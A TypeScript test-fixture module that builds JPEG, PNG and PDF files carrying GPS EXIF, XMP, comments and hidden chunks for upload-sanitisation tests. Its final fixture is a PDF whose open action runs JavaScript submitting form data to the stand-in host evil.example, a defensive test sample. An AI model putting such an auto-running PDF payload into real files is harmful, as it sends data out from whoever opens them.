import { deflateSync } from 'node:zlib'
import { PNG } from 'pngjs'

/** Small files that read to the end as their type, for upload tests (uploads are checked: docs/privacy.md). */

/** An 8×8 baseline JPEG (JFIF, tables, one scan, EOI), as jpeg-js encodes one. */
export const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wCEABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBk' +
    'eFxlZ2MBERISGBUYLxoaL2NCOEJjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY//AABEIAAgACAMBEQAC' +
    'EQEDEQH/xAGiAAABBQEBAQEBAQAAAAAAAAAAAQIDBAUGBwgJCgsQAAIBAwMCBAMFBQQEAAABfQECAwAEEQUSITFBBhNRYQcicRQygZGhCCNCscEV' +
    'UtHwJDNicoIJChYXGBkaJSYnKCkqNDU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6g4SFhoeIiYqSk5SVlpeYmZqio6Slpqeo' +
    'qaqys7S1tre4ubrCw8TFxsfIycrS09TV1tfY2drh4uPk5ebn6Onq8fLz9PX29/j5+gEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoLEQACAQIE' +
    'BAMEBwUEBAABAncAAQIDEQQFITEGEkFRB2FxEyIygQgUQpGhscEJIzNS8BVictEKFiQ04SXxFxgZGiYnKCkqNTY3ODk6Q0RFRkdISUpTVFVWV1hZ' +
    'WmNkZWZnaGlqc3R1dnd4eXqCg4SFhoeIiYqSk5SVlpeYmZqio6Slpqeoqaqys7S1tre4ubrCw8TFxsfIycrS09TV1tfY2dri4+Tl5ufo6ery8/T1' +
    '9vf4+fr/2gAMAwEAAhEDEQA/ALIg9q4Ocwjlfkf/2Q==',
  'base64',
)

/** A JPEG marker segment. */
export function jpegSegment(marker: number, payload: Buffer | string): Buffer {
  const body = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([head, body])
}

/**
 * An APP1 EXIF segment as a phone writes one: Make, Orientation, and a GPS IFD with latitude 28°41′17″ and
 * longitude 115°53′42″ (little-endian TIFF).
 */
export function exifGps(orientation = 1): Buffer {
  const t = Buffer.alloc(160)
  t.write('II', 0, 'latin1')
  t.writeUInt16LE(42, 2)
  t.writeUInt32LE(8, 4)
  t.writeUInt16LE(3, 8)
  const entry = (at: number, tag: number, type: number, count: number, value: number) => {
    t.writeUInt16LE(tag, at)
    t.writeUInt16LE(type, at + 2)
    t.writeUInt32LE(count, at + 4)
    t.writeUInt32LE(value, at + 8)
  }
  entry(10, 0x010f, 2, 4, 0x00474d43) // Make "CMG\0", in place
  entry(22, 0x0112, 3, 1, orientation)
  entry(34, 0x8825, 4, 1, 50) // GPS IFD at 50
  t.writeUInt16LE(2, 50)
  entry(52, 0x0002, 5, 3, 80)
  entry(64, 0x0004, 5, 3, 104)
  ;[28, 1, 41, 1, 17, 1, 115, 1, 53, 1, 42, 1].forEach((v, k) => t.writeUInt32LE(v, 80 + 4 * k))
  return jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), t]))
}

/** JPEG with EXIF GPS, XMP and a comment in its header, and `tail` after its EOI. */
export function jpegWithMetadata(tail: Buffer = Buffer.alloc(0), orientation = 1): Buffer {
  return Buffer.concat([
    JPEG.subarray(0, 20), // SOI + APP0 JFIF
    exifGps(orientation),
    jpegSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>28,41N</exif:GPSLatitude>'),
    jpegSegment(0xed, 'Photoshop 3.0\x008BIM IPTC city'),
    jpegSegment(0xfe, 'COMMENT-SECRET-13812345678'),
    JPEG.subarray(20),
    tail,
  ])
}

/** A w×h RGBA PNG as pngjs writes it. */
export function pngImage(w = 4, h = 4): Buffer {
  const png = new PNG({ width: w, height: h })
  png.data.fill(0x80)
  return PNG.sync.write(png)
}

/** A PNG chunk with its CRC. */
export function pngChunk(type: string, data: Buffer | string): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data)])
  const out = Buffer.alloc(body.length + 8)
  out.writeUInt32BE(body.length - 4, 0)
  body.copy(out, 4)
  out.writeUInt32BE(crc32(body), body.length + 4)
  return out
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff
  for (const byte of data) {
    crc ^= byte
    for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1
  }
  return (crc ^ 0xffffffff) >>> 0
}

/** A PNG with eXIf, tEXt and a private chunk after its header, and `tail` after IEND. */
export function pngWithMetadata(tail: Buffer = Buffer.alloc(0)): Buffer {
  const png = pngImage()
  return Buffer.concat([
    png.subarray(0, 33), // signature + IHDR
    pngChunk('eXIf', exifGps().subarray(10)),
    pngChunk('tEXt', 'Comment\0PNG-SECRET-GPS'),
    pngChunk('prVt', 'GPS-IN-PRIVATE-CHUNK'),
    png.subarray(33),
    tail,
  ])
}

/** A PDF with the given objects' bodies (object n is `n 0 obj`), its cross-reference table and trailer. */
export function pdfFile(
  objects: readonly string[] = PAGE_OBJECTS,
  options: { compressed?: string } = {},
): Buffer {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
  const offsets: number[] = []
  const all = [...objects]
  if (options.compressed !== undefined) all.push(objectStream(options.compressed))
  all.forEach((o, k) => {
    offsets.push(Buffer.byteLength(body, 'latin1'))
    body += `${k + 1} 0 obj\n${o}\nendobj\n`
  })
  const xref = Buffer.byteLength(body, 'latin1')
  body += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n`
  for (const o of offsets) body += `${String(o).padStart(10, '0')} 00000 n \n`
  body += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(body, 'latin1')
}

const PAGE_OBJECTS = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
]

/** A valid one-page PDF. */
export const PDF = pdfFile()

/** An object stream (deflated) holding `content`, written as its data; latin1 throughout. */
function objectStream(content: string): string {
  const data = deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
}

/** A PDF whose catalog runs JavaScript when opened, as the tester's `js.pdf`. */
export const PDF_WITH_JAVASCRIPT = pdfFile([
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
  PAGE_OBJECTS[1] ?? '',
  PAGE_OBJECTS[2] ?? '',
  "<< /S /JavaScript /JS (app.alert('x'); this.submitForm('http://evil.example/')) >>",
])
